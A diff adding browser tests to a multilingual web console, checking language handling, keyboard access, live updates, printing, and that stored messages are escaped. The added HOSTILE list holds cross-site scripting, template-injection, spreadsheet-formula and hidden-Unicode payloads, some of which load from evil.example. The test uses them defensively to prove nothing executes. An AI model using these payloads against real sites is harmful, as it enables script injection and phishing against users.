@@ -1,6 +1,7 @@
 """The console as an officer has it: Chromium at a desk and on a telephone, every page, axe's rules, and hostile words made harmless."""
 
 import os
+import unicodedata
 from collections.abc import AsyncIterator, Awaitable, Callable
 from pathlib import Path
 
@@ -13,6 +14,7 @@ from storage.migrate import migrate
 from tests.conftest import NewDatabase
 from tests.gateway.town import Town, message, number, person, town
 from tests.pages.test_page_in_a_browser import ARGUMENTS, CHROMIUM
+from tests.sizes import HOSTILE_BODIES
 
 pytestmark = pytest.mark.needs("chromium")
 
@@ -150,3 +152,146 @@ async def test_every_page_is_within_reach_of_everybody(site: Town, opened: Open,
     await page.get_by_role("link", name="open").first.click()
     await page.locator(".rule-line").first.wait_for()
     await clean(page, "decision", size)
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+async def test_it_speaks_three_languages_and_remembers(site: Town, opened: Open, language: str) -> None:
+    page = await opened("desk", language=language)
+    assert await page.locator("html").get_attribute("lang") == language
+    for path in ("", "/frequency", "/blocked", "/held", "/unknown", "/channels", "/packs", "/chain"):
+        await page.goto(f"{site.url}/console{path}")
+        assert await page.locator("html").get_attribute("lang") == language, path
+        assert await page.locator("h1").count() == 1
+        assert await page.locator("main :text('{')").count() == 0, path
+    await page.goto(f"{site.url}/console/frequency?lang=pt")
+    assert await page.locator("nav.pages [aria-current]").inner_text() == "Frequência"
+
+
+async def test_it_is_used_by_keyboard_alone(site: Town, opened: Open) -> None:
+    page = await opened()
+    await page.keyboard.press("Tab")
+    assert await page.evaluate("document.activeElement.className") == "skip"
+    await page.keyboard.press("Enter")
+    assert await page.evaluate("document.activeElement.id") == "main"
+    await page.goto(f"{site.url}/console/frequency")
+    for _ in range(60):
+        await page.keyboard.press("Tab")
+        if await page.evaluate(
+            "document.activeElement.getAttribute('href') || ''"
+        ) and "/proof/of/" in await page.evaluate("document.activeElement.getAttribute('href')"):
+            break
+    assert await page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
+    await page.keyboard.press("Enter")
+    await page.wait_for_url("**/console/proof/*")
+    assert await page.get_by_role("status").is_visible()
+
+
+async def test_news_are_shown_without_a_reload_and_without_script_by_one(site: Town, opened: Open) -> None:
+    page, still = await opened(), await opened(script=False)
+    tile = page.locator(".tile-replies dd")
+    before = int(await tile.inner_text())
+    await page.evaluate("window.mark = 'the same page'")
+    await site.reply("gracias por avisar", sender=number(5))
+    await page.wait_for_function(f"document.querySelector('.tile-replies dd').textContent === '{before + 1}'")
+    assert await page.evaluate("window.mark") == "the same page"
+    assert await still.locator(".tile-replies dd").inner_text() == str(before)
+    await still.reload()
+    assert await still.locator(".tile-replies dd").inner_text() == str(before + 1)
+
+
+async def test_it_prints_without_what_only_a_screen_needs(site: Town, opened: Open) -> None:
+    page = await opened()
+    await page.emulate_media(media="print")
+    for selector in ("nav.pages", ".doors"):
+        assert not await page.locator(selector).is_visible()
+    assert await page.locator(".heat").first.is_visible()
+    assert await page.locator(".behind table").is_visible(), "the table behind the picture is printed with it"
+    PICTURES.mkdir(parents=True, exist_ok=True)
+    await page.screenshot(path=PICTURES / "console-today-print.png", full_page=True)
+    assert len(await page.pdf(format="A4")) > 10_000
+
+
+#: What people write to harm whoever reads it: each is to be seen as it was written, and nothing of it is to happen.
+HOSTILE = (
+    "<script>document.title='taken'</script>",
+    "<img src=x onerror=\"document.title='taken'\">",
+    "<svg/onload=document.title='taken'>",
+    "\"><script src=https://evil.example/x.js></script>",
+    "' autofocus onfocus=document.title='taken' x='",
+    "<iframe src=https://evil.example></iframe><object data=https://evil.example></object>",
+    "<link rel=stylesheet href=https://evil.example/x.css><style>*{display:none}</style>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<form action=https://evil.example method=post><button>Confirmar</button></form>",
+    "<a href=javascript:document.title='taken'>ver</a> javascript:document.title='taken'",
+    "<base href=https://evil.example/>",
+    "</blockquote></li></ol></main><h1>Consola</h1>",
+    "{{ 7*7 }} {% for x in y %} ${7*7} #{7*7} {0.__class__}",
+    "pago \u202egnp.exe\u202c \u2066oculto\u2069 \u200f\u061c",
+    "ce\u200bro \ufeff\u2060 an\u00adcho \u2028 linea \u2029",
+    "bell \x07 esc \x1b[31m rojo \x1b[0m retro \x08\x08\x7f",
+    "\u0600\u070f\u180e\U000e0041\U000e007f \ue000 \uffff",
+    "=HYPERLINK(\"https://evil.example\",\"x\")",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e;",
+    "A" * 3_000 + "<b>fin</b>",
+)  # fmt: skip
+
+
+def bodies(count: int) -> list[str]:
+    """Each of them, then two of them after one another in every order, numbered."""
+    pairs = [f"{one} {two}" for one in HOSTILE for two in HOSTILE]
+    found = [*HOSTILE, *pairs, *(f"{n} {pair} {n}" for n in range(3) for pair in pairs)]
+    return found[:count]
+
+
+@pytest.mark.campaign
+async def test_hostile_words_are_shown_and_do_nothing(site: Town, opened: Open) -> None:
+    who, mine = "cli-1006", bodies(HOSTILE_BODIES)
+    async with site.house.database._pool.acquire() as connection:
+        # As they would have come by a hook that was handed them; PostgreSQL itself refuses U+0000.
+        for n, body in enumerate(mine):
+            await connection.execute(
+                "INSERT INTO contact_event (id, tenant, contact, at, type, channel, words) VALUES "
+                "(gen_random_uuid(), 't1', $1, '2026-11-24T14:00:00Z'::timestamptz + $2 * interval '1 second', 'reply', 'sms', $3)",
+                who,
+                n,
+                body.replace("\x00", ""),
+            )
+    page = await opened(key=site.key)
+    await to_person(page, who)
+    seen: list[str] = []
+    pictured = False
+    while True:
+        assert "taken" not in await page.title()
+        assert (
+            await page.locator(
+                "main script, main iframe, main object, main link, main style, main base, main meta"
+            ).count()
+            == 0
+        )
+        assert {await form.get_attribute("method") for form in await page.locator("form").all()} == {"post"}
+        assert await page.locator("h1").count() == 1
+        words = page.locator("blockquote.words")
+        for text in await words.all_inner_texts():
+            seen.append(text)
+            hidden = [c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Co", "Cn") and c not in "\n\t"]
+            assert hidden == [], "what cannot be seen is shown by its name"
+        if not pictured:
+            await clean(page, "hostile", "desk")
+            pictured = True
+        older = page.get_by_role("link", name="Older")
+        if not await older.count():
+            break
+        await older.click()
+        await page.wait_for_load_state()
+    assert len(seen) >= len(mine)
+    shown = "\n".join(seen)
+    for words in (
+        "<script>document.title='taken'</script>",
+        "{{ 7*7 }}",
+        "RLO",
+        "U+001B",
+        "ZWSP",
+        "U+E0041",
+        "&lt;script&gt;",
+    ):
+        assert words in shown, words
